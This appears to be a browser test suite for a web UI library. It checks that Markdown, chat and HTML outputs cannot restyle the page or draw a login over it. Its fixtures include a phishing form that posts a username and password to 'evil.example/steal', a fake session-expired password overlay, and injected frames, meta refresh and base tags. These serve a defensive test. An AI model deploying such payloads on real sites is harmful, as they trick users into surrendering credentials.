// Outputs that try to restyle the page or draw a login over it: Markdown and chat keep to text; HTML keeps
// its styles inside a shadow root whose box contains and clips it. The page must look the same, and no
// password field, form or frame may appear anywhere (shadow roots included).
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as tr from "../../src/index.js";
import { launchBrowser, newPage, openApp, pageErrors, screenshots, startApp } from "./helpers.js";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

const RESTYLE = `<style>html, body, .gradio-container { background: rgb(255, 0, 0) !important; color: rgb(0, 255, 0) !important } .btn, .block-label { display: none !important }</style>`;
const FORM = `<form action="https://evil.example/steal" method="post"><p>Your session expired. Log in again:</p><input name="user" placeholder="Username"><input type="password" name="pw" placeholder="Password"><button>Log in</button></form>`;
const OVERLAY = `<div class="fake-login" style="position: fixed; inset: 0; z-index: 99999; background: rgb(255, 255, 255); color: rgb(0, 0, 0)">Session expired: enter your password<input type="password"></div>`;
const EMBEDS = `<iframe src="https://example.com/"></iframe><object data="https://example.com/x"></object><embed src="https://example.com/y"><meta http-equiv="refresh" content="30;url=https://evil.example/"><link rel="stylesheet" href="data:text/css,body%7Bbackground:red%7D"><base href="https://evil.example/">`;
const HOST = `<style>:host { position: fixed !important; inset: 0 !important; z-index: 99999 !important; background: rgb(255, 255, 255) !important }</style>`;
const KEPT = `<p class="kept" style="color: rgb(0, 128, 0); position: fixed; top: 0; left: 0; z-index: 99999">kept words</p>`;
const ATTACK = [RESTYLE, FORM, OVERLAY, EMBEDS, KEPT].join("\n");

/** What the page's own look is made of, read from its elements (not from the outputs). */
async function look(page: Page): Promise<Record<string, string>> {
  return page.evaluate(() => {
    const css = (el: Element | null, prop: string) => (el ? getComputedStyle(el).getPropertyValue(prop) : "missing");
    return {
      html: css(document.documentElement, "background-color"),
      body: css(document.body, "background-color"),
      container: css(document.querySelector(".gradio-container"), "background-color"),
      text: css(document.querySelector(".gradio-container"), "color"),
      submit: css(document.querySelector(".btn.primary"), "display"),
      label: css(document.querySelector(".block-label"), "display"),
    };
  });
}

/** Elements of these kinds anywhere on the page, shadow roots included. */
async function countDeep(page: Page, selector: string): Promise<number> {
  return page.evaluate((sel) => {
    let n = 0;
    const walk = (root: Document | ShadowRoot) => {
      n += root.querySelectorAll(sel).length;
      for (const el of Array.from(root.querySelectorAll("*"))) if (el.shadowRoot) walk(el.shadowRoot);
    };
    walk(document);
    return n;
  }, selector);
}

/** The page's own element at a point (through shadow roots), and whether it belongs to an output's content. */
async function hit(page: Page, x: number, y: number): Promise<{ tag: string; inOutput: boolean }> {
  return page.evaluate(
    ([px, py]) => {
      let el = document.elementFromPoint(px, py);
      while (el?.shadowRoot) {
        const inner = el.shadowRoot.elementFromPoint(px, py);
        if (!inner || inner === el) break;
        el = inner;
      }
      const host = (el?.getRootNode() as ShadowRoot | Document) instanceof ShadowRoot ? ((el!.getRootNode() as ShadowRoot).host as Element) : el;
      // The outputs' content: the chat, the isolated HTML box, and the Markdown output (not the description).
      const inOutput = !!host?.closest(".comp-chatbot, .isolated, .comp-markdown.output:not(.description):not(.article)");
      return { tag: el ? el.tagName.toLowerCase() + (el.className ? `.${String(el.className)}` : "") : "none", inOutput };
    },
    [x, y],
  );
}

describe("browser: outputs cannot restyle or overlay the page", () => {
  it("Markdown, chat and HTML outputs that try <style>, forms, a fixed overlay, frames and :host leave the page as it was", async () => {
    const iface = new tr.Interface({
      fn: () => [`# Reply\n\n${ATTACK}\n\n**bold** and *italic*`, [["hi", `${ATTACK}\n\nchat **reply**`]] as [string, string][], `${HOST}${ATTACK}`, `${ATTACK}<style>.own { color: rgb(0, 0, 255); font-weight: 700 }</style><p class="own">own style</p>`],
      inputs: new tr.Textbox({ label: "s" }),
      outputs: ["markdown", "chatbot", "html", "html"],
      title: "Sanitised",
      allowFlagging: "never",
    });
    const app = await startApp(iface);
    const { context, page } = await newPage(browser, { width: 1280, height: 900 });
    try {
      await openApp(page, app.url);
      const before = await look(page);
      const submit = page.getByRole("button", { name: "Submit" });
      await page.getByLabel("s", { exact: true }).fill("go");
      await submit.click();
      await page.locator(".comp-chatbot .message.bot strong").waitFor({ timeout: 15_000 });
      await page.locator(".comp-html.output .own").waitFor({ timeout: 15_000 });

      // The page looks as it did: no style of an output reached it.
      expect(await look(page)).toEqual(before);
      // No password field, form, control or frame anywhere, shadow roots included; the only stylesheet links are
      // the page's own (its assets, at the end of <body> so that the skeleton paints first).
      for (const sel of ["input[type=password]", "form", "iframe", "object", "embed", "meta[http-equiv]", "base", "link[rel=stylesheet]"]) {
        expect(await countDeep(page, sel), sel).toBe(sel === "link[rel=stylesheet]" ? await page.evaluate(() => document.querySelectorAll('link[rel=stylesheet][href*="/assets/"]').length) : 0);
      }
      expect(await countDeep(page, ".comp-markdown input, .comp-chatbot input, .isolated input, .isolated button")).toBe(0);
      // Nothing of an output lies over the page: the corners, the title and Submit are the page's own.
      const box = (await submit.boundingBox())!;
      const title = (await page.locator(".title h1").boundingBox())!;
      for (const [x, y] of [
        [3, 3],
        [1277, 3],
        [3, 897],
        [box.x + box.width / 2, box.y + box.height / 2],
        [title.x + title.width / 2, title.y + title.height / 2],
      ]) {
        expect((await hit(page, x, y)).inOutput, `point ${x},${y}`).toBe(false);
      }
      expect(await hit(page, box.x + box.width / 2, box.y + box.height / 2)).toMatchObject({ tag: expect.stringMatching(/^button/) });

      // Text keeps its colours and emphasis; the fixed position of an inline style is gone from Markdown and chat.
      for (const scope of [".comp-markdown.output", ".comp-chatbot"]) {
        const kept = page.locator(`${scope} .kept`).first();
        expect(await kept.evaluate((el) => [getComputedStyle(el).color, getComputedStyle(el).position])).toEqual(["rgb(0, 128, 0)", "static"]);
      }
      expect(await page.locator(".comp-markdown.output strong").first().innerText()).toBe("bold");
      // The HTML output keeps its own styles inside its box, which contains whatever it places.
      expect(await page.locator(".comp-html.output .own").evaluate((el) => getComputedStyle(el).color)).toBe("rgb(0, 0, 255)");
      const html = (await page.locator(".comp-html.output .isolated").last().boundingBox())!;
      const fixed = (await page.locator(".comp-html.output .kept").last().boundingBox())!;
      expect(fixed.x).toBeGreaterThanOrEqual(html.x - 1);
      expect(fixed.y).toBeGreaterThanOrEqual(html.y - 1);
      // And the page still works: Submit runs again.
      await submit.click();
      await expect.poll(() => page.locator(".status-overlay").count(), { timeout: 15_000 }).toBe(0);
      await screenshots(page, "sanitised-outputs");
      expect(pageErrors(page)).toEqual([]);
    } finally {
      await context.close();
      await app.close();
    }
  });
});
